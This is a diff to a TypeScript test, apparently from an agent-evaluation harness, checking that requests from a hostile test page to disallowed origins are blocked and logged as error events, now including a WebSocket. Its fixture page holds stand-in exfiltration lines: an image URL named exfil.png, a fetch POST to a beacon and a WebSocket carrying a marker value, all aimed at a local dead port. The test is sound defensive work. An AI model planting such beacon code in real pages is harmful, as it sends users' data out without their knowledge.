@@ -1,7 +1,7 @@
 /**
  * Requests the page tried and umpire blocked are evidence, through the real CLI: a page on an
  * origin the task allows (served by the hostile test server) tries to send data to another
- * origin with an image and a fetch. Both are blocked, and each appears in the trial's
+ * origin with an image, a fetch and a WebSocket. Each is blocked, and each appears in the trial's
  * events.jsonl as an `AgentEvent` of kind `error_event` (the Agents API shape: `error` and
  * `origin` strings) with the request's details.
  */
@@ -19,7 +19,8 @@ afterAll(() => s.cleanup());
 
 const EVIL = `<!doctype html><title>evil</title><h1>nothing to see</h1>
 <img src="http://127.0.0.1:9/exfil.png?d=BB-042">
-<script>fetch("http://localhost:9/beacon", { method: "POST", body: "x" }).catch(() => {});</script>`;
+<script>fetch("http://localhost:9/beacon", { method: "POST", body: "x" }).catch(() => {});
+new WebSocket("ws://localhost:9/socket?d=BB-042");</script>`;
 
 function taskAllowing(origin: string): string {
   const task = parse(readFixtureTask(join(REPO_ROOT, "tasks/answer-only-bb042.yaml")));
@@ -62,7 +63,11 @@ describe("blocked requests in the trial log", () => {
       const urls = blocked.map((e) => e.data.blocked_request?.url);
       expect(urls).toContain("http://127.0.0.1:9/exfil.png?d=BB-042");
       expect(urls).toContain("http://localhost:9/beacon");
-      for (const event of blocked) {
+      // A page's WebSocket never reaches the request route: guarded and logged alike (#38).
+      expect(urls).toContain("ws://localhost:9/socket?d=BB-042");
+      const socket = blocked.find((e) => e.data.blocked_request.url.startsWith("ws:"))!;
+      expect(socket.data.blocked_request.resourceType).toBe("websocket");
+      for (const event of blocked.filter((e) => e !== socket)) {
         expect(typeof event.data.error).toBe("string");
         expect(event.data.error).toMatch(/^blocked .* not an allowed origin for this task$/);
         expect(event.data.blocked_request.frameUrl).toBe(`${origin}/evil`);
